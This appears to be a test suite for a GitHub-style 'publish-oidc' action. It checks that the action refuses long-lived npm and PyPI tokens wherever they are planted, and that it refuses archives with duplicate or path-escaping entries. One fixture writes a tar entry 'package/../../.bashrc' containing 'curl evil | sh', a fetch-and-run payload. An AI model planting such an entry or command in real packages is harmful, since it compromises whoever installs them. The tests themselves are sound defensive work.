// The no-token promise under hostile input: publish-oidc (the real bundle, the real npm CLI,
// Verdaccio and the PyPI stand-in on loopback) refuses every static credential npm or a PyPI
// client could find, and every archive a registry could read otherwise than it does; nothing is
// published, and the credential's text appears in no output, summary, annotation or file.
import { execFileSync } from 'node:child_process'
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import {
  type NpmSandbox,
  type OidcIssuer,
  type PypiSandbox,
  startNpmSandbox,
  startOidcIssuer,
  startPypiSandbox,
} from '@tokenless/sandbox'
import { tarGz, writeDists, zip } from '../../packages/sandbox/test/fixtures/pypi/dists.js'
import { type BundleRun, runBundleAsync } from '../support/run-bundle.js'

const SECRET = 'npm_AdversarialSecret0123456789abcdefXYZ'
const JOB = {
  repository: 'acme/widget',
  workflow: 'release.yml',
  ref: 'refs/tags/v1.1.0',
  environment: 'release',
  repository_visibility: 'private' as const,
}
const PUBLISHER = {
  owner: 'acme',
  repository: 'widget',
  workflow: 'release.yml',
  environment: 'release',
}
const REFUSED =
  'publish-oidc publishes through OIDC only and refuses to run with a long-lived registry token in reach: '

let issuer: OidcIssuer
let registry: NpmSandbox
let pypi: PypiSandbox
beforeAll(async () => {
  issuer = await startOidcIssuer()
  registry = await startNpmSandbox({ issuer })
  pypi = await startPypiSandbox({ issuer, name: 'pypi' })
}, 60_000)
afterAll(async () => {
  await pypi.stop()
  await registry.stop()
  await issuer.stop()
})

let counter = 0
async function trustedPackage(base: string): Promise<string> {
  const name = `${base}-${++counter}-${process.pid}`
  const seed = mkdtempSync(join(tmpdir(), 'tokenless-seed-'))
  writeFileSync(join(seed, 'package.json'), JSON.stringify({ name, version: '1.0.0' }))
  await registry.seedPackage(seed)
  registry.trustPublisher(name, PUBLISHER)
  return name
}

function packageDir(root: string, name: string, version: string, extra = {}): string {
  const dir = join(root, name.replace(/[@/]/g, '_'))
  mkdirSync(dir, { recursive: true })
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name, version, ...extra }, null, 2))
  writeFileSync(join(dir, 'index.js'), 'module.exports = 1\n')
  return dir
}

function files(dir: string): string[] {
  if (!existsSync(dir)) return []
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))
}

/**
 * Runs the bundle and asserts the secret reached no output: stdout and stderr (but for the
 * runner's own ::add-mask:: commands, which it consumes), the summary, the outputs, and every file
 * npm left in the job's home (its logs).
 */
async function run(
  workspace: string,
  inputs: Record<string, string>,
  options: { env?: Record<string, string>; home?: string; planted?: string[] } = {},
): Promise<BundleRun> {
  const home = options.home ?? mkdtempSync(join(tmpdir(), 'tokenless-home-'))
  const result = await runBundleAsync('publish-oidc', {
    workspace,
    inputs: { registry: registry.url, provenance: 'false', 'require-gate': 'false', ...inputs },
    env: { ...issuer.createJob(JOB).env, HOME: home, ...options.env },
  })
  const printed = `${result.stdout}\n${result.stderr}`
    .split('\n')
    .filter((line) => !line.startsWith('::add-mask::'))
  expect(printed.filter((line) => line.includes(SECRET))).toEqual([])
  expect(result.summary).not.toContain(SECRET)
  expect(JSON.stringify(result.outputs)).not.toContain(SECRET)
  for (const file of files(home).filter((file) => !options.planted?.includes(file))) {
    expect([file, readFileSync(file, 'utf8').includes(SECRET)]).toEqual([file, false])
  }
  return result
}

async function served(name: string, version: string): Promise<boolean> {
  const response = await fetch(new URL(name.replace('/', '%2f'), registry.url))
  if (!response.ok) return false
  const packument = (await response.json()) as { versions?: Record<string, unknown> }
  return packument.versions?.[version] !== undefined
}

function nerfDart(): string {
  const url = new URL(registry.url)
  return `//${url.host}${url.pathname}`
}

function expectRefused(result: BundleRun, ...found: string[]): void {
  expect(result.exitCode).toBe(1)
  const message = result.annotations[0]?.message ?? ''
  expect(message.startsWith(REFUSED)).toBe(true)
  for (const text of found) expect(message).toContain(text)
}

describe('publish-oidc refuses a static npm credential wherever npm would find it', () => {
  it('in package.json publishConfig (npm would use it and publish it in the manifest)', async () => {
    const name = await trustedPackage('pubconf')
    const dir = mkdtempSync(join(tmpdir(), 'tokenless-ws-'))
    packageDir(dir, name, '1.1.0', { publishConfig: { [`${nerfDart()}:_authToken`]: SECRET } })
    const result = await run(dir, { packages: name, version: '1.1.0' })
    expectRefused(
      result,
      `${name}/package.json:5 sets publishConfig.${nerfDart()}:_authToken (npm would use it, and publish it in the package's manifest)`,
    )
    expect(await served(name, '1.1.0')).toBe(false)
  })

  it('in the publishConfig of a tarball’s package.json', async () => {
    const name = await trustedPackage('tgzconf')
    const dir = mkdtempSync(join(tmpdir(), 'tokenless-ws-'))
    const source = packageDir(join(dir, 'src'), name, '1.1.0', {
      publishConfig: { _authToken: SECRET },
    })
    execFileSync('npm', ['pack', '--pack-destination', dir], { cwd: source, stdio: 'ignore' })
    const result = await run(dir, { packages: '*.tgz', version: '1.1.0' })
    expectRefused(
      result,
      `${name}-1.1.0.tgz: package/package.json:5 sets publishConfig._authToken (npm would use it, and publish it in the package's manifest)`,
    )
    expect(await served(name, '1.1.0')).toBe(false)
  })

  it('as a quoted key in the workspace .npmrc while working-directory points below it', async () => {
    const name = await trustedPackage('quoted')
    const dir = mkdtempSync(join(tmpdir(), 'tokenless-ws-'))
    packageDir(join(dir, 'sub'), name, '1.1.0')
    writeFileSync(join(dir, '.npmrc'), `fund=false\n"${nerfDart()}:_authToken"=${SECRET}\n`)
    const result = await run(dir, {
      packages: name,
      version: '1.1.0',
      'working-directory': 'sub',
    })
    expectRefused(result, `${join(dir, '.npmrc')}:2 sets ${nerfDart()}:_authToken`)
    expect(result.annotations[0]?.properties).toMatchObject({
      file: join(dir, '.npmrc'),
      line: '2',
    })
    expect(await served(name, '1.1.0')).toBe(false)
  })

  it('in an .npmrc above a .tgz named in packages, and behind a lone carriage return', async () => {
    const name = await trustedPackage('tgzrc')
    const dir = mkdtempSync(join(tmpdir(), 'tokenless-ws-'))
    const source = packageDir(join(dir, 'src'), name, '1.1.0')
    mkdirSync(join(dir, 'out', 'dist'), { recursive: true })
    execFileSync('npm', ['pack', '--pack-destination', join(dir, 'out', 'dist')], {
      cwd: source,
      stdio: 'ignore',
    })
    writeFileSync(join(dir, 'out', '.npmrc'), `fund=false\r_auth=${SECRET}\n`)
    const result = await run(dir, { packages: 'out/dist/*.tgz', version: '1.1.0' })
    expectRefused(result, `${join(dir, 'out', '.npmrc')}:2 sets _auth`)
    expect(await served(name, '1.1.0')).toBe(false)
  })

  it.each([
    ['npm_config__authToken', () => SECRET],
    ['NPM_CONFIG__AUTH', () => SECRET],
    [`npm_config_//registry/:_authToken`, () => SECRET],
    ['npm_config_registry', () => `http://user:${SECRET}@127.0.0.1:9/`],
  ])('in the environment as %s', async (variable, value) => {
    const name = await trustedPackage('envcfg')
    const dir = mkdtempSync(join(tmpdir(), 'tokenless-ws-'))
    packageDir(dir, name, '1.1.0')
    const result = await run(dir, { packages: name }, { env: { [variable]: value() } })
    expectRefused(result, `the environment variable ${variable} `)
    expect(await served(name, '1.1.0')).toBe(false)
  })

  it('in the user config that NPM_CONFIG_USERCONFIG names, and in ~/.npmrc username/_password', async () => {
    const name = await trustedPackage('usercfg')
    const dir = mkdtempSync(join(tmpdir(), 'tokenless-ws-'))
    packageDir(dir, name, '1.1.0')
    const home = mkdtempSync(join(tmpdir(), 'tokenless-home-'))
    const custom = join(home, 'custom-npmrc')
    writeFileSync(custom, `${nerfDart()}:certfile=/c.pem\n${nerfDart()}:keyfile=/k.pem\n`)
    writeFileSync(
      join(home, '.npmrc'),
      `${nerfDart()}:username=me\n${nerfDart()}:_password=${SECRET}\n`,
    )
    const result = await run(
      dir,
      { packages: name },
      {
        home,
        env: { NPM_CONFIG_USERCONFIG: custom },
        planted: [custom, join(home, '.npmrc')],
      },
    )
    expectRefused(
      result,
      `${custom}:1 sets ${nerfDart()}:certfile; ${custom}:2 sets ${nerfDart()}:keyfile; ${join(home, '.npmrc')}:1 sets ${nerfDart()}:username; ${join(home, '.npmrc')}:2 sets ${nerfDart()}:_password`,
    )
    expect(await served(name, '1.1.0')).toBe(false)
  })

  it('in a registry URL with credentials, which is masked and never printed', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'tokenless-ws-'))
    packageDir(dir, 'anything', '1.1.0')
    const url = new URL(registry.url)
    const result = await run(dir, {
      packages: 'anything',
      registry: `http://user:${SECRET}@${url.host}/`,
    })
    expect(result.exitCode).toBe(1)
    expect(result.stdout).toContain(`::add-mask::${SECRET}`)
    expect(result.annotations[0]?.message).toBe(
      `Input registry is a URL with credentials in it (http://***@${url.host}/). publish-oidc publishes through OIDC only, and a credential in a workflow file is one that leaks: remove it from the URL, revoke it, and name the registry alone, e.g. registry: http://${url.host}/.`,
    )
  })
})

describe('publish-oidc runs npm where nothing unseen can steer it', () => {
  it('ignores a scope registry in the workspace .npmrc, in publishConfig and in npm_config_*: the publish goes to the registry input', async () => {
    const name = `@acme/steer-${++counter}-${process.pid}`
    const seed = mkdtempSync(join(tmpdir(), 'tokenless-seed-'))
    writeFileSync(join(seed, 'package.json'), JSON.stringify({ name, version: '1.0.0' }))
    await registry.seedPackage(seed)
    registry.trustPublisher(name, PUBLISHER)
    const dir = mkdtempSync(join(tmpdir(), 'tokenless-ws-'))
    // A closed loopback port: npm would fail (or leak the minted token) if it followed these.
    writeFileSync(join(dir, '.npmrc'), '@acme:registry=http://127.0.0.1:9/\n')
    packageDir(dir, name, '1.1.0', { publishConfig: { '@acme:registry': 'http://127.0.0.1:9/' } })
    const result = await run(
      dir,
      { packages: name.replace(/[@/]/g, '_'), version: '1.1.0' },
      { env: { 'npm_config_@acme:registry': 'http://127.0.0.1:9/' } },
    )
    expect(result.stderr).toBe('')
    expect(result.exitCode).toBe(0)
    expect(await served(name, '1.1.0')).toBe(true)
  })
})

describe('publish-oidc reads a tarball as npm will unpack it', () => {
  it('refuses two package/package.json entries (checked on the first, published on the last)', async () => {
    const name = await trustedPackage('twice')
    const dir = mkdtempSync(join(tmpdir(), 'tokenless-ws-'))
    writeFileSync(
      join(dir, `${name}-1.1.0.tgz`),
      tarGz([
        { name: 'package/package.json', data: JSON.stringify({ name, version: '1.1.0' }) },
        { name: 'package/index.js', data: 'module.exports = 1\n' },
        { name: 'package/package.json', data: JSON.stringify({ name, version: '9.9.9' }) },
      ]),
    )
    const result = await run(dir, { packages: '*.tgz', version: '1.1.0' })
    expect(result.exitCode).toBe(1)
    expect(result.annotations[0]?.message).toBe(
      `${name}-1.1.0.tgz holds "package.json" twice: this check would read one copy and the registry or an installer the other (the last one wins when unpacked), so the version checked need not be the one published. Rebuild it with npm pack and publish what that makes.`,
    )
    expect(await served(name, '1.1.0')).toBe(false)
    expect(await served(name, '9.9.9')).toBe(false)
  })

  it('refuses a path that leaves the package', async () => {
    const name = await trustedPackage('escape')
    const dir = mkdtempSync(join(tmpdir(), 'tokenless-ws-'))
    writeFileSync(
      join(dir, `${name}-1.1.0.tgz`),
      tarGz([
        { name: 'package/package.json', data: JSON.stringify({ name, version: '1.1.0' }) },
        { name: 'package/../../.bashrc', data: 'curl evil | sh\n' },
      ]),
    )
    const result = await run(dir, { packages: '*.tgz' })
    expect(result.annotations[0]?.message).toBe(
      `${name}-1.1.0.tgz holds the entry "package/../../.bashrc", an absolute path or one with "..", which would be written outside the package when unpacked. Rebuild it with npm pack and publish what that makes.`,
    )
    expect(await served(name, '1.1.0')).toBe(false)
  })
})

describe('publish-oidc to PyPI refuses static credentials and ambiguous files', () => {
  async function pypiRun(
    dir: string,
    options: {
      env?: Record<string, string>
      home?: string
      planted?: string[]
      registry?: string
    } = {},
  ): Promise<BundleRun> {
    return run(dir, { registry: options.registry ?? pypi.uploadUrl }, options)
  }

  async function uploaded(name: string, version: string): Promise<number> {
    const response = await fetch(`${pypi.url}/pypi/${name}/${version}/json`)
    if (!response.ok) return 0
    return ((await response.json()) as { urls: unknown[] }).urls.length
  }

  it.each([
    'TWINE_PASSWORD',
    'PYPI_API_TOKEN',
    'UV_PUBLISH_TOKEN',
    'FLIT_PASSWORD',
    'POETRY_PYPI_TOKEN_PYPI',
  ])('in %s', async (variable) => {
    pypi.trustPublisher('adv-env', PUBLISHER)
    const dir = mkdtempSync(join(tmpdir(), 'tokenless-ws-'))
    await writeDists(join(dir, 'dist'), { name: 'adv-env', version: '1.1.0' })
    const result = await pypiRun(dir, { env: { [variable]: SECRET } })
    expectRefused(result, `the environment variable ${variable} is set`)
    expect(await uploaded('adv-env', '1.1.0')).toBe(0)
  })

  it('in ~/.pypirc', async () => {
    pypi.trustPublisher('adv-pypirc', PUBLISHER)
    const dir = mkdtempSync(join(tmpdir(), 'tokenless-ws-'))
    await writeDists(join(dir, 'dist'), { name: 'adv-pypirc', version: '1.1.0' })
    const home = mkdtempSync(join(tmpdir(), 'tokenless-home-'))
    writeFileSync(join(home, '.pypirc'), `[pypi]\nusername = __token__\npassword = ${SECRET}\n`)
    const result = await pypiRun(dir, { home, planted: [join(home, '.pypirc')] })
    expectRefused(result, `${join(home, '.pypirc')}:3 sets password in [pypi]`)
    expect(await uploaded('adv-pypirc', '1.1.0')).toBe(0)
  })

  it('in the upload URL', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'tokenless-ws-'))
    await writeDists(join(dir, 'dist'), { name: 'adv-url', version: '1.1.0' })
    const url = new URL(pypi.uploadUrl)
    const result = await pypiRun(dir, {
      registry: `http://__token__:${SECRET}@${url.host}${url.pathname}`,
    })
    expect(result.annotations[0]?.message).toBe(
      `Input registry is a URL with credentials in it (http://***@${url.host}${url.pathname}). publish-oidc publishes through OIDC only, and a credential in a workflow file is one that leaks: remove it from the URL, revoke it, and name the registry alone, e.g. registry: http://${url.host}${url.pathname}.`,
    )
    expect(await uploaded('adv-url', '1.1.0')).toBe(0)
  })

  it('refuses a wheel with one name twice', async () => {
    pypi.trustPublisher('adv-dup', PUBLISHER)
    const dir = mkdtempSync(join(tmpdir(), 'tokenless-ws-'))
    mkdirSync(join(dir, 'dist'))
    writeFileSync(
      join(dir, 'dist', 'adv_dup-1.1.0-py3-none-any.whl'),
      zip([
        {
          name: 'adv_dup-1.1.0.dist-info/METADATA',
          data: 'Metadata-Version: 2.1\nName: adv-dup\nVersion: 1.1.0\n\n',
        },
        { name: 'adv_dup/__init__.py', data: 'good = True\n' },
        { name: 'adv_dup/__init__.py', data: 'evil = True\n' },
      ]),
    )
    const result = await pypiRun(dir)
    expect(result.annotations[0]?.message).toBe(
      'adv_dup-1.1.0-py3-none-any.whl holds "adv_dup/__init__.py" twice: this check would read one copy and the registry or an installer the other (the last one wins when unpacked), so the version checked need not be the one published. Rebuild it with python -m build and publish what that makes.',
    )
    expect(await uploaded('adv-dup', '1.1.0')).toBe(0)
  })
})
